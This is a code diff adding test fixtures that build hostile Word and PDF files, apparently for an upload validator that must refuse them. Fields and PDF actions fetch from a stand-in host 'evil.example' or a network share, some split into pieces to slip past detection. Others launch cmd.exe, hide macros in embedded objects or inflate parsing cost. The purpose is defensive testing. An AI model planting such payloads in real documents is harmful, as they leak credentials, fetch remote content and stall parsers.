@@ -93,6 +93,123 @@ async function writtenPdfs(): Promise<HostileDocument[]> {
   )
 }
 
+const run = (content: string): string => `<w:r>${content}</w:r>`
+const mark = (type: string): string => run(`<w:fldChar w:fldCharType="${type}"/>`)
+const instructed = (text: string, name = 'instrText'): string => run(`<w:${name}>${text}</w:${name}>`)
+/** A field whose instruction is in pieces of two letters. */
+const inPieces = (instruction: string): string =>
+  mark('begin') +
+  (instruction.match(/..?/g) ?? []).map((piece) => instructed(piece.replaceAll('"', '&quot;'))).join('') +
+  mark('separate') +
+  run('<w:t>shown</w:t>') +
+  mark('end')
+
+/** Fields that fetch something, in each form and place that Word reads them in. */
+function wordFields(): HostileDocument[] {
+  const share = String.raw`\\\\evil.example\\share\\a`
+  const fields: [string, string][] = [
+    [`INCLUDEPICTURE "${share}.png" \\d`, 'on a network drive'],
+    [`includepicture \\d “${share}.png”`, 'on a network drive'],
+    [`HYPERLINK "${share}.docx"`, 'on a network drive'],
+    [`INCLUDETEXT "${share}.docx"`, 'from elsewhere'],
+    ['INCLUDETEXT "https://evil.example/a.docx"', 'from elsewhere'],
+    ['INCLUDETEXT a.docx', 'from elsewhere'],
+    [`LINK Excel.Sheet.12 "${share}.xlsx" "Sheet1!R1C1" \\a`, 'from elsewhere'],
+    ['DATABASE \\d "C:\\\\a.mdb" \\c "DSN=a" \\s "select 1"', 'from elsewhere'],
+    ['RD "a.docx"', 'from elsewhere'],
+    ['DDE excel "a.xls" R1C1', 'contains macros'],
+  ]
+  const part = (title: string, says: string, name: string, type: string, content: string): HostileDocument =>
+    docx(title, says, [
+      ...docxParts(),
+      { name: 'word/_rels/document.xml.rels', data: relationships({ type, target: name }) },
+      { name: `word/${name}`, data: wordDocument(content) },
+    ])
+  return [
+    ...fields.flatMap(([instruction, says]) => [
+      documentOf(
+        `${instruction} as a simple field`,
+        says,
+        `<w:fldSimple w:dirty="true" w:instr=" ${instruction.replaceAll('"', '&quot;')}"/>`,
+      ),
+      documentOf(`${instruction} in pieces`, says, inPieces(instruction)),
+      {
+        title: `DOC: ${instruction}`,
+        name: 'resume.doc',
+        data: makeDoc({ text: `\u0013 ${instruction.replaceAll(/[“”]/g, '\u0093')} \u0014shown\u0015` }),
+        says,
+      },
+      {
+        title: `DOC: ${instruction} in UTF-16`,
+        name: 'resume.doc',
+        data: makeDoc({ text: Buffer.from(`\u0013 ${instruction} \u0014shown\u0015`, 'utf16le').toString('latin1') }),
+        says,
+      },
+    ]),
+    documentOf('a field without an end', 'from elsewhere', mark('begin') + instructed('INCLUDETEXT a.docx')),
+    documentOf(
+      'a field that was deleted',
+      'from elsewhere',
+      mark('begin') + instructed('INCLUDETEXT a', 'delInstrText') + mark('end'),
+    ),
+    documentOf(
+      'a field inside of another one',
+      'from elsewhere',
+      mark('begin') + instructed('IF 1 = 1 "') + inPieces('INCLUDETEXT a.docx') + instructed('"') + mark('end'),
+    ),
+    documentOf(
+      'a field in what another one shows',
+      'from elsewhere',
+      mark('begin') + instructed('PAGE') + mark('separate') + inPieces('INCLUDETEXT a.docx') + mark('end'),
+    ),
+    documentOf(
+      'a picture whose address another field makes',
+      'from elsewhere',
+      mark('begin') +
+        instructed('INCLUDEPICTURE "') +
+        inPieces('QUOTE 92 92') +
+        instructed('evil/a.png"') +
+        mark('end'),
+    ),
+    documentOf(
+      'a field whose name another field makes',
+      'from elsewhere',
+      mark('begin') + inPieces('QUOTE "INCLUDE"') + instructed('TEXT a.docx') + mark('end'),
+    ),
+    ...['header', 'footer', 'footnotes', 'endnotes', 'comments', 'glossaryDocument'].map((type) =>
+      part(
+        `a field in a part that is called ${type}`,
+        'from elsewhere',
+        `${type}.dat`,
+        type,
+        inPieces('INCLUDETEXT a.docx'),
+      ),
+    ),
+  ]
+}
+
+/** Small files each of whose places leads through the rest of the file: the work must not grow with the square. */
+function endless(): HostileDocument[] {
+  const objects = (title: string, content: string): HostileDocument =>
+    pdf(title, 'too complicated', makePdf({ objects: content }))
+  return [
+    objects('objects in strings in one another', `${'1 0 obj('.repeat(300_000)}${')'.repeat(300_000)}\nendobj\n`),
+    objects('objects in one comment', `${'1 0 obj%'.repeat(500_000)}\n1\nendobj\n`),
+    objects(
+      'many objects of one number, and as many that refer to it',
+      `${'3 0 obj/A endobj\n'.repeat(100_000)}${'4 0 obj<</S 3 0 R>>endobj\n'.repeat(100_000)}`,
+    ),
+    objects(
+      'many streams of objects that are all the rest of the file',
+      `${'3 0 obj<</N 0/First 9999999>>stream\n'.repeat(100_000)}endstream\nendobj\n`,
+    ),
+    objects(
+      'objects that are all the rest of their stream',
+      `3 0 obj\n${objectStream([...Array.from({ length: 200_000 }, (_, index) => [index, '('] as const), [0, ')'.repeat(200_000)]])}\nendobj\n`,
+    ),
+  ]
+}
+
 /** @returns files that must be refused */
 export async function hostileDocuments(): Promise<HostileDocument[]> {
   return [
@@ -119,6 +236,40 @@ export async function hostileDocuments(): Promise<HostileDocument[]> {
     scripted('a script in an object that lies in a string', `(9 0 obj\n${SCRIPT}\nendobj)`),
     scripted('a program to start', '<</S/Launch/Win<</F(cmd.exe)>>>>'),
     scripted('an XML form', '<</Fields[]/XFA[(template)4 0 R]>>\nendobj\n4 0 obj\n<</Length 1>>\nstream\nx\nendstream'),
+    scripted(
+      'an XML form in a stream that has a subtype',
+      `<</Fields[]/XFA 4 0 R>>\nendobj\n4 0 obj\n${stream(Buffer.from('<template/>'), '/Subtype/XML')}`,
+    ),
+    ...[
+      '<</S/URI/URI(https://evil.example/)>>',
+      '<</S/URI/URI(file:///C:/Windows/System32/calc.exe)>>',
+      '<</S/GoToR/F(other.pdf)/D[0/Fit]>>',
+      '<</S/Thread/F(other.pdf)/D 0>>',
+      '<</S/GoTo/D[2 0 R/Fit]/Next[<</S/Named/N/NextPage>><</S/URI/URI(https://evil.example/)>>]>>',
+    ].flatMap((action) => [
+      pdfWith(`${action} when it opens`, 'by itself', `<</OpenAction ${action}>>`),
+      pdfWith(`${action} when a page is shown`, 'by itself', `<</Type/Page/AA<</O ${action}>>>>`),
+    ]),
+    pdfWith(
+      'an address after a page, each in an object of its own',
+      'by itself',
+      '<</OpenAction 4 0 R>>\nendobj\n4 0 obj\n<</S/GoTo/D[2 0 R/Fit]/Next 5 0 R>>\nendobj\n5 0 obj\n[4 0 R 6 0 R]\nendobj\n6 0 obj\n<</S/URI/URI(https://evil.example/)>>',
+    ),
+    pdfWith(
+      'an address when a field is left, in a table of its own',
+      'by itself',
+      '<</FT/Tx/T(name)/AA 4 0 R>>\nendobj\n4 0 obj\n<</Bl 5 0 R>>\nendobj\n5 0 obj\n<</S/URI/URI(https://evil.example/)>>',
+    ),
+    pdfWith(
+      'a page of another file in place of a drawing',
+      'from elsewhere',
+      stream(Buffer.from('0 0 m'), '/Subtype/Form/BBox[0 0 9 9]/Ref<</F(other.pdf)/Page 0>>'),
+    ),
+    pdfWith(
+      'a file from the web',
+      'from elsewhere',
+      '<</S/GoToR/F<</FS/URL/F(https://evil.example/a.pdf)>>/D[0/Fit]>>',
+    ),
     pdf(
       'a script that a later change took out',
       'contains a script',
@@ -184,6 +335,8 @@ export async function hostileDocuments(): Promise<HostileDocument[]> {
     ),
     pdfWith('arrays without an end', 'damaged', '['.repeat(100_000)),
 
+    ...endless(),
+
     template('the web', 'https://evil.example/t.dotm'),
     template('the web, with a coded letter', '&#104;ttps://evil.example/t.dotm'),
     template('a network drive as a file', 'file://evil.example/t.dotm'),
@@ -239,6 +392,21 @@ export async function hostileDocuments(): Promise<HostileDocument[]> {
       'contains macros',
       '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E&#65;UTO x</w:instrText></w:r>',
     ),
+    ...wordFields(),
+    docxWith('another program in an object, its name in capitals', 'contains macros', {
+      name: 'word/embeddings/oleObject1.bin',
+      data: makeDoc({ extraEntries: ['\u0001OLE10NATIVE'] }),
+    }),
+    docxWith('macros in an object, their name in small letters', 'contains macros', {
+      name: 'word/embeddings/oleObject1.bin',
+      data: makeDoc({ extraEntries: ['_vba_project'] }),
+    }),
+    {
+      title: 'DOCX: a password',
+      name: 'resume.docx',
+      data: makeDoc({ wordName: 'EncryptionInfo', extraEntries: ['EncryptedPackage'] }),
+      says: 'is password protected',
+    },
     docxWith('90 MB that say to be 1,000 bytes', 'unpacks to far more', {
       name: 'word/media/a.bin',
       data: Buffer.alloc(90 * 1024 * 1024),
